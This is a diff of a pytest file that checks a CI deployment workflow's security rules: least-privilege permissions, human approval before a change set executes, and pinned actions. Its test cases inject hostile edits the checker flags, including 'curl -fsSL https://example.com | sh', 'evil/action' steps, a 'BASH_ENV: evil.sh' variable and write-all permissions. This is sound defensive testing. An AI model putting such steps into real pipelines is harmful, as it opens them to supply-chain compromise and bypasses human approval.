@@ -75,6 +75,7 @@ def test_what_each_job_may() -> None:
     }
     assert {(file, name): job["permissions"] for file, name, job in jobs() if "permissions" in job} == {
         ("ci.yml", "findings"): {"actions": "read", "contents": "read", "security-events": "write"},
+        (DEPLOY, "prepare"): {"contents": "read", "id-token": "write"},
         ("knowledge.yml", "propose"): {"contents": "write", "pull-requests": "write"},
         (DEPLOY, "approve"): {},
         (DEPLOY, "deploy"): {"actions": "read", "contents": "read", "id-token": "write"},
@@ -88,7 +89,7 @@ def test_every_job_has_an_end_and_no_step_a_cache() -> None:
 
 def test_no_checkout_keeps_its_credentials() -> None:
     checkouts = list(steps("actions/checkout@"))
-    assert len(checkouts) == 10
+    assert len(checkouts) == 11
     assert all(step["with"]["persist-credentials"] is False for step in checkouts)
 
 
@@ -139,12 +140,13 @@ def test_every_path_that_starts_a_deployment_is_there() -> None:
 
 
 def test_a_person_approves_in_a_job_that_can_do_nothing() -> None:
-    deploy, approve = (yaml.safe_load(WORKFLOWS[DEPLOY])["jobs"][name] for name in ("deploy", "approve"))
+    jobs_of = yaml.safe_load(WORKFLOWS[DEPLOY])["jobs"]
+    prepare, approve, deploy = (jobs_of[name] for name in ("prepare", "approve", "deploy"))
     assert approve["environment"] == script("approval").ENVIRONMENT
-    assert approve["needs"] == "checks"
+    assert approve["needs"] == ["checks", "prepare"]
     assert [step for step in approve["steps"] if "uses" in step] == []
-    assert deploy["needs"] == ["checks", "approve"]
-    assert "environment" not in deploy
+    assert deploy["needs"] == ["checks", "prepare", "approve"]
+    assert "environment" not in {*deploy, *prepare}
 
 
 def test_no_job_of_a_deployment_begins_after_one_that_failed() -> None:
@@ -153,95 +155,191 @@ def test_no_job_of_a_deployment_begins_after_one_that_failed() -> None:
     only_main = "github.ref == 'refs/heads/main'"
     assert {name: job.get("if") for name, job in jobs_of.items()} == {
         "checks": None,
+        "prepare": only_main,
         "approve": only_main,
         "deploy": only_main,
     }
 
 
-def test_the_deploy_job_goes_on_after_nothing_that_failed() -> None:
-    deploy = yaml.safe_load(WORKFLOWS[DEPLOY])["jobs"]["deploy"]
-    conditions = {step["id"]: step["if"] for step in deploy["steps"] if "if" in step and "id" in step}
+def with_the_role() -> list[dict[str, Any]]:
+    jobs_of = yaml.safe_load(WORKFLOWS[DEPLOY])["jobs"]
+    return [*jobs_of["prepare"]["steps"], *jobs_of["deploy"]["steps"]]
+
+
+def test_the_jobs_with_the_role_go_on_after_nothing_that_failed() -> None:
+    conditions = {step["id"]: step["if"] for step in with_the_role() if "if" in step and "id" in step}
     assert conditions == {
-        "execute": "steps.review.outputs.execution == 'AVAILABLE'",  # with success(), as it has no status function
+        # with success(), as it has no status function
+        "execute": "needs.prepare.outputs.execution == 'AVAILABLE'",
         "watch": "${{ !cancelled() && steps.execute.outcome != 'skipped' }}",
     }
     assert not any("continue-on-error" in step for step in steps())
-    order = [step["id"] for step in deploy["steps"] if "id" in step]
-    assert [step for step in order if step != "tools"] == list(script("ended").WHY)
+    told = {step["id"] for step in with_the_role() if "id" in step} - {"tools"}
+    assert told == set(script("ended").WHY)
 
 
-def test_the_deploy_job_synthesises_nothing() -> None:
-    deploy = yaml.safe_load(WORKFLOWS[DEPLOY])["jobs"]["deploy"]
-    commands = [step["run"] for step in deploy["steps"] if "cdk " in step.get("run", "")]
-    assert len(commands) == 2
-    assert all(" --app cdk.out " in command for command in commands)
-    assert not any("make synth" in step.get("run", "") for step in deploy["steps"])
+def test_the_jobs_with_the_role_synthesise_nothing() -> None:
+    (command,) = [step["run"] for step in with_the_role() if "cdk " in step.get("run", "")]
+    assert " --app cdk.out " in command
+    assert " --method prepare-change-set " in command
+    assert not any("make synth" in step.get("run", "") for step in with_the_role())
+
+
+def test_only_the_job_after_the_approval_executes() -> None:
+    assert [
+        (file, name) for file, name, job in jobs() for step in job["steps"] if "ops execute" in step.get("run", "")
+    ] == [(DEPLOY, "deploy")]
 
 
 @pytest.fixture
 def changed(assembly: Assembly, settings: Settings, tmp_path: Path) -> Any:
-    def check(old: str, new: str) -> tuple[WorkflowFinding, ...]:
-        assert WORKFLOWS[DEPLOY].count(old) == 1, old
-        (tmp_path / DEPLOY).write_text(WORKFLOWS[DEPLOY].replace(old, new))
+    def check(old: str, new: str, job: str = "deploy") -> tuple[WorkflowFinding, ...]:
+        """What is found once a job, or what comes before all jobs, is changed."""
+        text = WORKFLOWS[DEPLOY]
+        begin = text.index(f"\n  {job}:\n") if job else 0
+        assert old in text[begin:], old
+        (tmp_path / DEPLOY).write_text(text[:begin] + text[begin:].replace(old, new, 1))
         (tmp_path / "ci.yml").write_text(WORKFLOWS["ci.yml"])
         return check_workflows(assembly, settings, tmp_path).findings
 
     return check
 
 
-def test_another_runner_is_found(changed: Any) -> None:
-    job = "    name: Deploy dataops-v1\n    needs: [checks, approve]\n    if: github.ref == 'refs/heads/main'\n"
-    found = changed(f"{job}    runs-on: ubuntu-24.04\n", f"{job}    runs-on: self-hosted\n")
+@pytest.mark.parametrize("job", ["prepare", "deploy"])
+def test_another_runner_is_found(changed: Any, job: str) -> None:
+    found = changed("    runs-on: ubuntu-24.04\n", "    runs-on: self-hosted\n", job)
     assert [one.kind.value for one in found] == ["runner"]
+    assert f"job `{job}` assumes the role on the runner `self-hosted`" in found[0].message
 
 
-@pytest.mark.parametrize(
-    ("old", "new", "said"),
-    [
+CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1\n        with:\n"
+EXECUTE = "run: python3 .github/scripts/summarised.py 'The execution' python -m ops execute"
+BROKEN = [
+    (
+        "deploy",
+        "    name: Deploy dataops-v1\n",
+        "    environment: dataops-v1\n",
+        "`repo:DataTalksClub/dataops:environment:dataops-v1`, which the role does not trust",
+    ),
+    (
+        "approve",
+        "    permissions: {}\n",
+        "    permissions:\n      id-token: write\n",
+        "job `approve` has `id-token: write`",
+    ),
+    (
+        "",
+        "permissions:\n  contents: read\n\n",
+        "permissions: write-all\n\n",
+        "job `checks` inherits `permissions: write-all`",
+    ),
+    ("prepare", "      id-token: write\n", "", "has no `id-token: write`"),
+    ("deploy", "      id-token: write\n", "", "has no `id-token: write`"),
+    ("deploy", "role-session-name: dataops-v1-deploy", "role-session-name: me", "`dataops-v1-deploy` is declared"),
+    ("approve", "    environment: dataops-v1\n", "", "job `deploy` assumes the role and waits for no approval"),
+    ("deploy", "    needs: [checks, prepare, approve]\n", "    needs: [checks, prepare]\n", "waits for no approval"),
+    ("deploy", "    if: github.ref == 'refs/heads/main'\n", "    if: always()\n", "waits for no approval"),
+    (
+        "approve",
+        "    environment: dataops-v1\n",
+        "    environment: dataops-v1\n    continue-on-error: true\n",
+        "job `approve`, whose approval job `deploy` waits for, has `continue-on-error`",
+    ),
+    (
+        "approve",
+        "    steps:\n",
+        f"    steps:\n      - uses: {CHECKOUT}          ref: main\n",
+        "job `approve`, whose approval job `deploy` waits for, uses `actions/checkout",
+    ),
+    (
+        "deploy",
+        "          make tools\n",
+        "          curl -fsSL https://example.com | sh\n",
+        "runs what no lock file or hash names: `curl -fsSL https://example.com`",
+    ),
+    *(
         (
-            "    name: Deploy dataops-v1\n",
-            "    environment: dataops-v1\n",
-            "`repo:DataTalksClub/dataops:environment:dataops-v1`, which the role does not trust",
-        ),
-        (
-            "    permissions: {}\n",
-            "    permissions:\n      id-token: write\n",
-            "job `approve` has `id-token: write`",
-        ),
-        (
-            "permissions:\n  contents: read\n\n",
-            "permissions: write-all\n\n",
-            "job `checks` inherits `permissions: write-all`",
-        ),
-        ("      id-token: write\n", "", "has no `id-token: write`"),
-        ("role-session-name: dataops-v1-deploy", "role-session-name: me", "`dataops-v1-deploy` is declared"),
-        ("    environment: dataops-v1\n", "", "waits for no approval by the environment `dataops-v1`"),
-        ("    needs: [checks, approve]\n", "    needs: [checks]\n", "waits for no approval"),
-        (
-            "    environment: dataops-v1\n",
-            "    environment: dataops-v1\n    continue-on-error: true\n",
-            "job `approve`, whose approval job `deploy` waits for, has `continue-on-error`",
-        ),
-        (
-            "          make tools\n",
-            "          curl -fsSL https://example.com | sh\n",
-            "runs what no lock file or hash names: `curl -fsSL https://example.com`",
-        ),
-        (
-            "      - name: Preflight\n",
-            "      - run: curl -fsSL https://example.com | sh\n      - name: Preflight\n",
-            "the step `run: curl -fsSL https://example.com | sh`, which is not declared",
-        ),
-        (
-            "run: python3 .github/scripts/summarised.py 'Preflight' python -m ops preflight --as-deploy-role",
-            "run: echo ok",
-            "the step `Preflight`, which runs `echo ok`, other than declared",
-        ),
-        ("aws-region: eu-west-1", "aws-region: eu-central-1", "the stacks are in `eu-west-1`"),
-    ],
-)
-def test_a_change_that_breaks_the_fit_is_found(changed: Any, old: str, new: str, said: str) -> None:
-    found: tuple[WorkflowFinding, ...] = changed(old, new)
+            job,
+            "      - name: Log in\n",
+            "      - run: curl -fsSL https://example.com | sh\n      - name: Log in\n",
+            f"job `{job}` has the step `run: curl -fsSL https://example.com | sh`, which is not declared",
+        )
+        for job in ("prepare", "deploy")
+    ),
+    (
+        "deploy",
+        "      - name: Log in\n",
+        "      - uses: evil/action@v1\n      - name: Log in\n",
+        "the step `evil/action`, which is not declared",
+    ),
+    (
+        "prepare",
+        "run: python3 .github/scripts/summarised.py 'Preflight' python -m ops preflight --as-deploy-role",
+        "run: echo ok",
+        "the step `Preflight`, which runs `echo ok`, other than declared",
+    ),
+    ("deploy", EXECUTE, "run: echo", "the step `Execute the change set`, which runs `echo dataops-v1 --change-set"),
+    (
+        "deploy",
+        '--change-set "$CHANGE_SET"',
+        '--change-set "$CHANGE_SET" --assembly x',
+        "--assembly x`, other than declared",
+    ),
+    (
+        "deploy",
+        '--change-set "$CHANGE_SET"',
+        '--change-set "$CHANGE_SET" || true',
+        "which runs `true`, other than declared",
+    ),
+    (
+        "deploy",
+        "        id: execute\n",
+        "        id: execute\n        continue-on-error: true\n",
+        "the step `Execute the change set`, with `continue-on-error`",
+    ),
+    (
+        "prepare",
+        "prepare-change-set --change-set-name",
+        "change-set --change-set-name",
+        "the step `Prepare the change set`, which runs",
+    ),
+    (
+        "deploy",
+        f"uses: {CHECKOUT}",
+        f"uses: {CHECKOUT}          ref: unreviewed\n",
+        "the step `actions/checkout`, with `ref: unreviewed`, other than declared",
+    ),
+    (
+        "deploy",
+        "        uses: actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8.0.1\n",
+        "        uses: evil/download@v1\n",
+        "which uses `evil/download`, and `actions/download-artifact` is declared",
+    ),
+    (
+        "deploy",
+        "        id: execute\n",
+        "        id: execute\n        shell: python {0}\n",
+        "the step `Execute the change set`, with `shell: python {0}`, which is not declared",
+    ),
+    (
+        "deploy",
+        '      NO_COLOR: "1"\n',
+        "      BASH_ENV: evil.sh\n",
+        "the variable `BASH_ENV`, which decides what its declared steps run",
+    ),
+    (
+        "deploy",
+        "    timeout-minutes: 60\n",
+        "    timeout-minutes: 60\n    container: evil/image\n",
+        "its steps declared, and a `container` that is not",
+    ),
+    ("deploy", "aws-region: eu-west-1", "aws-region: eu-central-1", "the stacks are in `eu-west-1`"),
+]
+
+
+@pytest.mark.parametrize(("job", "old", "new", "said"), BROKEN)
+def test_a_change_that_breaks_the_fit_is_found(changed: Any, job: str, old: str, new: str, said: str) -> None:
+    found: tuple[WorkflowFinding, ...] = changed(old, new, job)
     sentences = " ".join(finding.message for finding in found if not finding.is_note)
     assert said.lower() in sentences.lower(), sentences
     assert all(finding.fix for finding in found if not finding.is_note)
@@ -304,6 +402,8 @@ def test_a_long_output_keeps_its_end(tmp_path: Path) -> None:
         ({"execute": "failure", "watch": "failure"}, "Stopped at `execute`", "Whether the change set was executed"),
         ({"execute": "success", "smoke": "success"}, "Deployed", "The change set was executed."),
         ({"execute": "skipped", "smoke": "success"}, "Nothing to deploy", "Nothing was executed."),
+        ({"prepare": "success", "review": "success"}, "Ready to be approved", "Nothing was executed."),
+        ({"prepare": "success", "review": "failure"}, "Stopped at `review`", "Nothing was executed."),
         ({"execute": "cancelled", "smoke": "skipped"}, "Stopped at `execute`", "Whether the change set was executed"),
         ({"step-1": "failure"}, "Stopped at `step-1`", "Nothing was executed."),
         ({"execute": "success", "smoke": "skipped"}, "Not finished", "The change set was executed."),
